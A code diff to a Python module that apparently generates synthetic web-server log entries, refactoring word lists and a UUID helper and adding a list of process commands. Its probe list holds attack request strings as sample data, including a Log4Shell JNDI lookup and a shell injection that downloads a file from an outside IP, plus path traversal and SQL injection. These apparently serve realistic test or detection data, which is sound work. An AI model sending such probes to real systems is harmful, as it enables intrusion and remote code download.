@@ -2,18 +2,18 @@
 
 from __future__ import annotations
 
+import uuid
 from random import Random
 
-WORDS = (
-    *("account", "api", "cart", "checkout", "contact", "docs", "download", "feed", "home"),
-    *("images", "item", "login", "news", "orders", "search", "static", "user"),
-)
+WORDS = ("account", "api", "cart", "checkout", "contact", "docs", "download", "feed", "home",
+         "images", "item", "login", "news", "orders", "search", "static", "user")  # fmt: skip
 AGENTS = (
     "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
     "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36",
     "Mozilla/5.0 (iPhone; CPU iPhone OS 19_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
     "kube-probe/1.34", "Prometheus/3.7.1", "curl/8.14.1", "Go-http-client/2.0", "python-requests/2.32.5",
 )  # fmt: skip
+COMMANDS = ("/usr/bin/ls -la", "/usr/sbin/cron -f", "/bin/sh -c date", "/usr/bin/python3 job.py", "/usr/bin/ps aux")
 _PROBES = (
     "/?x=${jndi:ldap://198.51.100.7/a}", "/cgi-bin/.%2e/.%2e/.%2e/bin/sh", "/wp-login.php?action=register",
     "/search?q=1%27%20UNION%20SELECT%20null--", "/.git/config", "/shell?cd+/tmp;wget+http://198.51.100.7/x",
@@ -42,16 +42,11 @@ def time_of(number: int) -> str:
     return f"2026-09-21T14:{number // 60000 % 60:02}:{number // 1000 % 60:02}"
 
 
-def identity(rng: Random) -> str:
-    return f"C{rng.getrandbits(90):x}"
-
-
 def digits(rng: Random, bits: int) -> str:
     """Return a number in hex."""
     return f"{rng.getrandbits(bits):0{bits // 4}x}"
 
 
-def uuid(rng: Random) -> str:
-    """Return one as it is usually written."""
-    text = digits(rng, 128)
-    return "-".join((text[:8], text[8:12], text[12:16], text[16:20], text[20:]))
+def identity(rng: Random) -> str:
+    """Return a UUID."""
+    return str(uuid.UUID(int=rng.getrandbits(128)))
